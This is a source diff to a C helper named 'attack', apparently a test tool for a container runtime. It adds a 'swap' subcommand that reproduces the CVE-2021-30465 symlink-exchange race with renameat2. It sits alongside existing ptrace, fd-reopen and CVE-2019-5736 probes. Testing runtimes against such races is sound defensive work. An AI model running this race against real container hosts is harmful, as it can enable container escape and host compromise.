@@ -6,6 +6,8 @@
  *   attack ptrace PID             PTRACE_ATTACH (then detach)
  *   attack reopen FD TRIES        reopen /proc/self/fd/FD for writing (retrying while ETXTBSY,
  *                                 i.e. while another process still runs the file) and write
+ *   attack swap A B STOPFILE      CVE-2021-30465: exchange A and B (a directory and a symlink)
+ *                                 atomically, over and over, until STOPFILE exists
  *   attack watch STOPFILE [write] CVE-2019-5736 / CVE-2016-9962 scanner: for every process that
  *                                 appears running something else than busybox or this tool (the
  *                                 runtime entering the container), try to open its exe for
@@ -189,6 +191,25 @@ static int watch(const char *stopfile, int write_held) {
     return 0;
 }
 
+static int swap(const char *a, const char *b, const char *stopfile) {
+    long swaps = 0;
+    printf("ready\n");
+    while (access(stopfile, F_OK) != 0) {
+        for (int i = 0; i < 1000; i++) {
+            if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
+                printf("err %s swap\n", name(errno));
+                return 1;
+            }
+            swaps++;
+        }
+    }
+    /* An even number of exchanges: the directory is back where it started. */
+    if (swaps % 2)
+        renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
+    printf("done %ld\n", swaps);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (argc == 4 && !strcmp(argv[1], "open"))
@@ -197,8 +218,10 @@ int main(int argc, char **argv) {
         return do_ptrace(atoi(argv[2]));
     if (argc == 4 && !strcmp(argv[1], "reopen"))
         return reopen_and_write(atoi(argv[2]), atoi(argv[3]), "self");
+    if (argc == 5 && !strcmp(argv[1], "swap"))
+        return swap(argv[2], argv[3], argv[4]);
     if ((argc == 3 || argc == 4) && !strcmp(argv[1], "watch"))
         return watch(argv[2], argc == 4 && !strcmp(argv[3], "write"));
-    fprintf(stderr, "usage: attack open PATH rw|ro|path | ptrace PID | reopen FD TRIES | watch STOP [write]\n");
+    fprintf(stderr, "usage: attack open PATH rw|ro|path | ptrace PID | reopen FD TRIES | swap A B STOP | watch STOP [write]\n");
     return 2;
 }
